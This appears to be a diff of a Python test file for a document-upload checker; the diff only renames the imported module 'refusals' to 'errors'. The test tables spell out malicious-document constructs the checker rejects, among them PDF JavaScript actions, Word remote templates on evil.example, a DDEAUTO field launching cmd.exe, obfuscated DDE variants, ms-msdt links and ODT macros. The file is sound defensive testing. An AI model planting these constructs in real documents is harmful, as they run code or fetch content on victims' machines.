@@ -10,7 +10,7 @@ from pypdf.generic import ArrayObject, DictionaryObject, Fit, NameObject, TextSt
 
 from peoplehub.core.errors import Invalid
 from peoplehub.library import originals
-from peoplehub.library.originals import refusals
+from peoplehub.library.originals import errors
 from tests.library.test_originals import archive, docx, odt, pdf_file, pdf_with_a_button
 
 W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
@@ -121,81 +121,81 @@ def with_first_size(data: bytes, compression: int) -> bytes:
 TEMPLATE = link("attachedTemplate", "https://evil.example/a.dotm", True)
 MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
 PDFS = {
-    "a script of a bookmark": (pdf(with_a_bookmark_that_runs), refusals.RUNS),
+    "a script of a bookmark": (pdf(with_a_bookmark_that_runs), errors.RUNS),
     "a script among the names": (with_in_catalogue(
-        Names={"/JavaScript": {"/Names": ["a", SCRIPT]}}), refusals.RUNS),
+        Names={"/JavaScript": {"/Names": ["a", SCRIPT]}}), errors.RUNS),
     "a script in other letters": (pdf(lambda writer: writer.root_object.update(thing(
-        {"/OpenAction": SCRIPT}))).replace(b"/JavaScript", b"/J#61vaScri#70t"), refusals.RUNS),
-    "a script when it is closed": (with_in_catalogue(AA={"/WC": {"/S": "/Named"}}), refusals.RUNS),
-    "a form that sends itself": (pdf_with_a_button("/SubmitForm"), refusals.RUNS),
-    "a button that opens another file": (pdf_with_a_button("/GoToR"), refusals.RUNS),
+        {"/OpenAction": SCRIPT}))).replace(b"/JavaScript", b"/J#61vaScri#70t"), errors.RUNS),
+    "a script when it is closed": (with_in_catalogue(AA={"/WC": {"/S": "/Named"}}), errors.RUNS),
+    "a form that sends itself": (pdf_with_a_button("/SubmitForm"), errors.RUNS),
+    "a button that opens another file": (pdf_with_a_button("/GoToR"), errors.RUNS),
     "a field that reckons": (with_in_catalogue(AcroForm={"/Fields": [
-        {"/T": "sum", "/AA": {"/C": SCRIPT}}]}), refusals.RUNS),
-    "a form of XFA": (with_in_catalogue(AcroForm={"/XFA": ["template", "x"]}), refusals.XFA),
+        {"/T": "sum", "/AA": {"/C": SCRIPT}}]}), errors.RUNS),
+    "a form of XFA": (with_in_catalogue(AcroForm={"/XFA": ["template", "x"]}), errors.XFA),
     "an attached file": (pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")),
-                         refusals.HAS_FILES),
-    "a film": (with_in_catalogue(Extra={"/Subtype": "/RichMedia"}), refusals.RUNS),
-    "a packed script": (packed_pdf(b"<</First<</A<</S/JavaScript/JS(x)>>>>>>"), refusals.RUNS),
+                         errors.HAS_FILES),
+    "a film": (with_in_catalogue(Extra={"/Subtype": "/RichMedia"}), errors.RUNS),
+    "a packed script": (packed_pdf(b"<</First<</A<</S/JavaScript/JS(x)>>>>>>"), errors.RUNS),
     "a packed script in other letters": (packed_pdf(b"<</A<</S/#4aavaScript/JS(x)>>>>"),
-                                         refusals.RUNS),
-    "a packed form of XFA": (packed_pdf(b"<</XFA[(a)(b)]>>"), refusals.XFA),
-    "too many pages": (pdf_file(501), refusals.TOO_MANY_PAGES),
+                                         errors.RUNS),
+    "a packed form of XFA": (packed_pdf(b"<</XFA[(a)(b)]>>"), errors.XFA),
+    "too many pages": (pdf_file(501), errors.TOO_MANY_PAGES),
 }
 WORDS = {
     "a template from elsewhere": (word(**{
-        "word/_rels/settings.xml.rels": f"<a><Relationship {TEMPLATE}/></a>"}), refusals.FETCHES),
+        "word/_rels/settings.xml.rels": f"<a><Relationship {TEMPLATE}/></a>"}), errors.FETCHES),
     "a picture from elsewhere": (word(links=(link("image", "https://evil.example/a.png", True),)),
-                                 refusals.FETCHES),
-    "a page inside": (word(links=(link("aFChunk", "page.html"),)), refusals.FETCHES),
-    "renamed macros": (word(**{"word/media/image7.png": OLE}), refusals.RUNS),
-    "macros by their link": (word(links=(link("vbaProject", "a.dat"),)), refusals.RUNS),
+                                 errors.FETCHES),
+    "a page inside": (word(links=(link("aFChunk", "page.html"),)), errors.FETCHES),
+    "renamed macros": (word(**{"word/media/image7.png": OLE}), errors.RUNS),
+    "macros by their link": (word(links=(link("vbaProject", "a.dat"),)), errors.RUNS),
     "macros by their kind": (word(types=f'<Override PartName="/a" ContentType="{MACROS}"/>'),
-                             refusals.RUNS),
+                             errors.RUNS),
     "an object of another program": (word(links=(link("oleObject", "embeddings/a.bin"),)),
-                                     refusals.RUNS),
-    "a control": (word(links=(link("control", "activeX/activeX1.xml"),)), refusals.RUNS),
-    "an archive inside": (word(**{"word/media/a.zip": docx()}), refusals.RUNS),
-    "a sheet inside": (word(links=(link("package", "embeddings/a.xlsx"),)), refusals.HAS_FILES),
-    "a program inside": (word(**{"word/media/a.jpeg": b"MZ\x90\x00"}), refusals.RUNS),
-    "DDE": (word(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), refusals.RUNS),
-    "DDE in pieces": (word(field("DD", "E", "AUTO", " cmd")), refusals.RUNS),
-    "DDE in codes": (word(field("QUOTE 68 68 69 65 85 84 79")), refusals.RUNS),
-    "DDE in one element": (word('<w:fldSimple w:instr=" DDE cmd x"/>'), refusals.RUNS),
+                                     errors.RUNS),
+    "a control": (word(links=(link("control", "activeX/activeX1.xml"),)), errors.RUNS),
+    "an archive inside": (word(**{"word/media/a.zip": docx()}), errors.RUNS),
+    "a sheet inside": (word(links=(link("package", "embeddings/a.xlsx"),)), errors.HAS_FILES),
+    "a program inside": (word(**{"word/media/a.jpeg": b"MZ\x90\x00"}), errors.RUNS),
+    "DDE": (word(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), errors.RUNS),
+    "DDE in pieces": (word(field("DD", "E", "AUTO", " cmd")), errors.RUNS),
+    "DDE in codes": (word(field("QUOTE 68 68 69 65 85 84 79")), errors.RUNS),
+    "DDE in one element": (word('<w:fldSimple w:instr=" DDE cmd x"/>'), errors.RUNS),
     "DDE in a footnote": (word(**{"word/footnotes.xml": f"<w:footnotes {W}>{field('DDE cmd')}"
-                                  "</w:footnotes>"}), refusals.RUNS),
+                                  "</w:footnotes>"}), errors.RUNS),
     "DDE in a part of another name": (web_word("other/part.xml", field("DDEAUTO cmd")),
-                                      refusals.RUNS),
+                                      errors.RUNS),
     "words from elsewhere": (word(field("INCLUDETEXT https://evil.example/a.docx")),
-                             refusals.FETCHES),
+                             errors.FETCHES),
     "a link that is a command": (word(links=(link("hyperlink", "ms-msdt:/id", True),)),
-                                 refusals.RUNS),
-    "a password": (OLE, refusals.LOCKED_DOCUMENT),
+                                 errors.RUNS),
+    "a password": (OLE, errors.LOCKED_DOCUMENT),
     "more than two hundred pictures": (word(**{f"word/media/image{n}.png": b"\x89PNG"
-                                               for n in range(240)}), refusals.TOO_MANY_PARTS),
-    "another way of packing": (with_first_size(docx(), 14), refusals.NOT_DOCUMENT),
+                                               for n in range(240)}), errors.TOO_MANY_PARTS),
+    "another way of packing": (with_first_size(docx(), 14), errors.NOT_DOCUMENT),
 }  # fmt: skip
 TEXTS = {
     "a script": (open_text("<text:script script:language='Basic'>x</text:script>"),
-                 refusals.RUNS),
+                 errors.RUNS),
     "an event": (open_text(scripts='<office:event-listeners><script:event-listener '
                            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'
-                           "</office:event-listeners>"), refusals.RUNS),
+                           "</office:event-listeners>"), errors.RUNS),
     "a link that runs": (open_text('<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'),
-                         refusals.RUNS),
+                         errors.RUNS),
     "a macro of the old kind": (open_text('<text:a xlink:href="macro:///Standard.A.B()"/>'),
-                                refusals.RUNS),
-    "a script in a folder": (open_text(**{"Scripts/python/a.py": "x"}), refusals.RUNS),
-    "macros in small letters": (open_text(**{"basic/Standard/a.xml": "x"}), refusals.RUNS),
-    "DDE": (open_text('<text:dde-connection text:connection-name="a"/>'), refusals.RUNS),
-    "an object of another program": (open_text(**{"Object 1": OLE}), refusals.RUNS),
+                                errors.RUNS),
+    "a script in a folder": (open_text(**{"Scripts/python/a.py": "x"}), errors.RUNS),
+    "macros in small letters": (open_text(**{"basic/Standard/a.xml": "x"}), errors.RUNS),
+    "DDE": (open_text('<text:dde-connection text:connection-name="a"/>'), errors.RUNS),
+    "an object of another program": (open_text(**{"Object 1": OLE}), errors.RUNS),
     "a picture from elsewhere": (open_text('<draw:image xlink:href="https://evil.example/a.png"/>'),
-                                 refusals.FETCHES),
+                                 errors.FETCHES),
     "a part from elsewhere": (open_text('<text:section-source xlink:href="//evil/a.odt"/>'),
-                              refusals.FETCHES),
+                              errors.FETCHES),
     "a script in a part": (open_text(**{"Object 1/content.xml": f"<text:script {ODF}/>"}),
-                           refusals.RUNS),
+                           errors.RUNS),
     "a password": (open_text(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
-                   refusals.LOCKED_DOCUMENT),
+                   errors.LOCKED_DOCUMENT),
 }
 CASES = {f"{kind} with {name}": (f"a.{kind}", *case)
          for kind, cases in (("pdf", PDFS), ("docx", WORDS), ("odt", TEXTS))
@@ -265,4 +265,4 @@ def test_what_only_looks_unusual_is_taken(case):
 def test_a_pdf_that_asks_for_a_password_is_said_to():
     with pytest.raises(Invalid) as refused:
         originals.checked(locked("AES-256", "secret"), "a.pdf")
-    assert str(refused.value) == refusals.LOCKED
+    assert str(refused.value) == errors.LOCKED
